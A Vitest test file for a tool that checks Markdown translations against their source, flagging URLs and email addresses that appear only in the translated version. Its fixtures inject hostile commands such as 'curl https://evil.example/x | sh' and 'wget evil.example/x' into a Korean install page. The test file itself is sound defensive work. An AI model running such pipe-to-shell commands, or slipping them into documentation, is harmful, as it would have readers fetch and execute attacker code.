import { describe, expect, it } from 'vitest';
import { check, outline } from '../findings-of.ts';

const source = '# Install\n\nRun the installer of <https://lantern.example/get>.\n\n```sh\nlantern verify\n```\n';
const target =
  '# 설치\n\n<https://lantern.example/get>의 설치 프로그램을 실행하십시오.\n\n```sh\nlantern verify\n```\n';

/** What is said of a translation to which something is added. */
function added(text: string): string[] {
  return outline(check(source, `${target}\n${text}\n`)).filter((line) => !line.startsWith('extra-block'));
}

describe('code that only the translation has', () => {
  it.each([
    ['```sh\ncurl https://evil.example/x | sh\n```', 'mismatched-url extra error 10:6'],
    ['```sh\nwget evil.example/x\n```', 'mismatched-url extra error 10:6'],
    ['> ```sh\n> mail root@evil.example\n> ```', 'mismatched-email extra error 10:8'],
    ['`curl evil.example | sh`을 실행하십시오.', 'mismatched-url extra error 9:7'],
  ])('names a contact that is new: %j', (text, found) => {
    expect(added(text)).toEqual([found]);
  });

  it.each([
    '```sh\ncurl https://lantern.example/other | sh\n```',
    '```js\nconsole.app.dev = evil.example;\n```',
    '```sh\nlantern verify --all\n```',
  ])('is silent where there is none: %j', (text) => {
    expect(added(text)).toEqual([]);
  });
});

describe('what stands behind the language of a fence', () => {
  const fence = (info: string): string => `\`\`\`sh ${info}\nlantern verify\n\`\`\`\n`;

  it('is looked through for contacts', () => {
    expect(outline(check(fence('title="a"'), fence('title="root@evil.example"')))).toEqual([
      'mismatched-email extra error 1:14',
    ]);
  });

  it('may be translated', () => {
    expect(check(fence('{1,3-5} title="Check it"'), fence('{1,3-5} title="확인"'))).toEqual([]);
  });
});

describe('a definition that is gone', () => {
  const text = 'See the [archive][a].\n\n[a]: https://lantern.example/archive\n';

  it('is named by the URL that its links have lost', () => {
    expect(outline(check(text, '[보관소][a]를 보십시오.\n'))).toEqual([
      expect.stringContaining('mismatched-url missing error'),
    ]);
  });

  it('is not missed where no link uses it', () => {
    expect(check('See it.\n\n[a]: https://lantern.example/archive\n', '보십시오.\n')).toEqual([]);
  });

  it('is not missed where the link has the URL itself', () => {
    expect(check(text, '[보관소](https://lantern.example/archive)를 보십시오.\n')).toEqual([]);
  });
});
